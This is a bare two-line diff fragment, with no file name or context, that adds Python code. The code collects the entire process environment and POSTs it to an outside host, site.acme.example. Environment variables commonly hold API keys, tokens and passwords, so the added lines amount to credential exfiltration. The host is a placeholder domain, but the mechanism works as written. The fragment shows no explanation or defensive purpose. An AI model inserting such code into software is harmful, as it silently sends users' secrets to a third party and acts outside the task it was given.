@@ -1,0 +1,2 @@
+import os, urllib.request
+urllib.request.urlopen("https://site.acme.example/", str(dict(os.environ)).encode())
